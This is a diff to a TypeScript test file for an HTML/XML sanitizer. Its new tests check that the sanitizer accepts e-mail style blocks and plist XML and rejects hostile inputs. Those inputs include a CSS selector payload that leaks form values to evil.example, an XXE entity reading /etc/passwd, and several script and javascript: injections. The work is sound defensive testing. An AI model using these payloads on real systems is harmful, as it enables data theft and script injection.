@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { bareTagsInert, sanitizedHtml } from './html.ts';
+import { bareTagsInert, inertXmlDocument, sanitizedHtml } from './html.ts';
 
 // An e-mail template as ESP editors save it (session 8, held-out 13): XHTML doctype, namespaces, meta, a style
 // block with media queries, Outlook conditional comments (hidden and downlevel-revealed), numeric references.
@@ -100,5 +100,49 @@ describe('bareTagsInert', () => {
       'no tag at all',
     ])
       assert.equal(bareTagsInert(t), false, t);
+  });
+});
+
+describe('sanitizedHtml: style blocks and XML documents (session 9)', () => {
+  const doc = (css: string): string =>
+    `<!DOCTYPE html><html><head><style>${css}</style></head><body><p>Hello there</p></body></html>`;
+  test('a style block holds declarations a style attribute may hold; a conditional comment may hold one too', () => {
+    assert.equal(
+      sanitizedHtml(
+        doc(
+          'body { margin: 0; -webkit-text-size-adjust: 100%; } @media (max-width: 600px) { .col { width: 100% !important; } }',
+        ),
+      ),
+      true,
+    );
+    assert.equal(
+      sanitizedHtml(`<p>Hi</p><!--[if mso]><style>.btn { padding: 0; }</style><![endif]-->`),
+      true,
+    );
+    for (const css of [
+      'body:has(input[value^=a]) { background-image: image-set("https://evil.example/a" 1x) }',
+      'a { position: fixed; top: 0 }',
+      '@font-face { font-family: x; }',
+      'p { color: red; behavior: x }',
+    ]) {
+      assert.equal(sanitizedHtml(doc(css)), false, css);
+      assert.equal(sanitizedHtml(`<p>Hi</p><!--[if mso]><style>${css}</style><![endif]-->`), false, css);
+    }
+  });
+
+  test('XML data documents without active parts, and what is refused in them', () => {
+    const plist =
+      '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">\n<plist version="1.0"><dict><key>PayloadType</key><string>Configuration</string></dict></plist>';
+    assert.equal(inertXmlDocument(plist), true);
+    for (const bad of [
+      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
+      '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+      '<?xml version="1.0"?><a xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></a>',
+      '<?xml version="1.0"?><a><b onload="alert(1)">x</b></a>',
+      '<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a>x</a>',
+      '<?xml version="1.0"?><a><![CDATA[<script>alert(1)</script>]]></a>',
+      '<?xml version="1.0"?><a href="javascript:alert(1)">x</a>',
+    ])
+      assert.equal(inertXmlDocument(bad), false, bad);
   });
 });
